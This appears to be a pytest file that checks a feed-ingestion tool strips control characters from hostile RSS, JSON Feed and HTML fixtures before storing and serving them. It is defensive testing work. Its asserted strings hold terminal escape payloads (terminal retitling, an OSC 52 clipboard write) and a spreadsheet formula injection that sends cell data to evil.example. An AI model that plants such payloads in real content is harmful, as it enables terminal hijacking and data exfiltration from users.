"""Untrusted text is cleaned once, at the record boundary (`ingest.text.clean_text`, issue 25 point 1).

The hostile fixtures (tests/fixtures/hostile) are served on loopback and polled into a real store on
both backends: no stored title, author, caption, block, tag or hit keeps a control character.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from sqlmodel import Session, select

from ingest.config import Source
from ingest.storage.tables import HitRow, ItemRow
from ingest.text import clean_text, removed_before
from tests.helpers.polling import polling
from tests.helpers.servers import LocalServer

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
# What no stored text may hold: C0 but tab and newline, CR, DEL, C1, surrogates, U+FFFE/U+FFFF.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def test_clean_text_drops_controls_and_keeps_text():
    assert clean_text("\x1b]0;pwned\x07\x1b[2J\x1b[31mRed") == "]0;pwned[2J[31mRed"
    assert clean_text("a\x9bb\x7fc\x00d\ud800e\uffff\ufffef\ufdd0g") == "abcdefg"
    assert clean_text("tab\there\nline") == "tab\there\nline"
    assert clean_text("one\r\ntwo\rthree") == "one\ntwo\nthree"
    assert clean_text("Ереван café 東京 \u200d🇦🇲") == "Ереван café 東京 \u200d🇦🇲"


def test_removed_before_maps_old_offsets_to_new():
    s = "\x1b[1mCSTO\r\nand\x07 CSTO"
    cleaned, shift = clean_text(s), removed_before(s)
    for start in (s.index("CSTO"), s.rindex("CSTO")):
        assert cleaned[start - shift[start]:start + 4 - shift[start + 4]] == "CSTO"


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from strings(k)
            yield from strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from strings(v)


def serve_hostile(srv: LocalServer) -> None:
    srv.route("/hostile/feed.xml", (HOSTILE / "feed.xml").read_bytes(), headers={"Content-Type": "application/rss+xml"})
    srv.route("/hostile/feed.json", (HOSTILE / "feed.json").read_bytes(),
              headers={"Content-Type": "application/feed+json"})
    srv.route("/hostile/article.html", (HOSTILE / "article.html").read_bytes(),
              headers={"Content-Type": "text/html; charset=utf-8"})


@pytest.fixture
def hostile(tmp_path, db_url):
    """The hostile RSS and JSON feeds polled from loopback into a fresh store: (config, store)."""
    with polling(tmp_path, db_url, watchlists='[[watchlists]]\nname = "csto"\nterms = ["CSTO"]\n') as (srv, store, p):
        serve_hostile(srv)
        rss = p.poll(Source(name="hostile-rss", url=srv.url("/hostile/feed.xml")))
        jsonfeed = p.poll(Source(name="hostile-json", url=srv.url("/hostile/feed.json")))
        assert (rss.new, rss.failed, jsonfeed.new) == (6, 0, 1), (rss, jsonfeed)
        yield p.config, store


def test_hostile_feeds_are_stored_without_controls(hostile):
    _, store = hostile
    with Session(store.engine) as s:
        items = s.exec(select(ItemRow)).all()
        hits = s.exec(select(HitRow)).all()
        titles = {i.source + ":" + i.url.rsplit("/", 1)[-1]: i.title for i in items}
        for row in [*items, *hits]:
            for name, value in vars(row).items():
                for text in strings(value):
                    assert not CONTROL.search(text), (name, text)
        page_item = next(i for i in items if i.url.endswith("/hostile/article.html"))
        assert page_item.origin == "page"
        assert page_item.lead_image_caption == "Lead]52;c;cHduZWQ= caption2J"
        assert page_item.authors[0].startswith("Mallory") and page_item.authors[0].endswith("0m[1m Bold")
        assert len(page_item.blocks) == 4  # the lead caption and three paragraphs; the all-control one is gone
        assert {h.item_id for h in hits} == {i.id for i in items}  # matching ran on the cleaned text
        for h in hits:
            item = next(i for i in items if i.id == h.item_id)
            field = item.title if h.field == "title" else item.blocks[h.block]["text"]
            assert field[h.start:h.end] == h.text == "CSTO"
    assert titles["hostile-rss:article.html"] == "]0;pwned[2J[31mCSTO summit retitles your terminal"
    assert titles["hostile-rss:missing-2.html"] == '=HYPERLINK("http://evil.example/"&A1,"CSTO click")'
    assert titles["hostile-rss:missing-6.html"] == "Escaped ]0;pwned ›2J char refs CSTO\novertyped"
    assert titles["hostile-json:missing-j1.html"] == "]0;pwned JSON 31m lone  surrogate CSTO"


def test_the_web_app_shows_the_hostile_items_inert(hostile):
    """Issue 25 point 6: every page and API answer over the hostile items carries no control character."""
    import warnings

    from ingest.web.app import WebSettings, create_app

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    cfg, store = hostile
    c = TestClient(create_app(cfg, store, WebSettings(host="127.0.0.1")), base_url="http://127.0.0.1")
    with Session(store.engine) as s:
        ids = s.exec(select(ItemRow.id)).all()
    paths = ["/", "/?state=all", "/?q=pwned", "/sources", "/watchlists", "/watchlists/csto.atom", "/api/v1/items",
             *(f"/items/{i}" for i in ids), *(f"/api/v1/items/{i}" for i in ids)]
    for path in paths:
        answer = c.get(path)
        assert answer.status_code == 200, path
        assert not CONTROL.search(answer.text), path
    inbox = c.get("/?state=all").text
    assert "]0;pwned[2J[31mCSTO summit retitles your terminal" in inbox
    assert "=HYPERLINK(&#34;http://evil.example/&#34;&amp;A1,&#34;CSTO click&#34;)" in inbox \
        or "=HYPERLINK(&quot;http://evil.example/&quot;&amp;A1,&quot;CSTO click&quot;)" in inbox
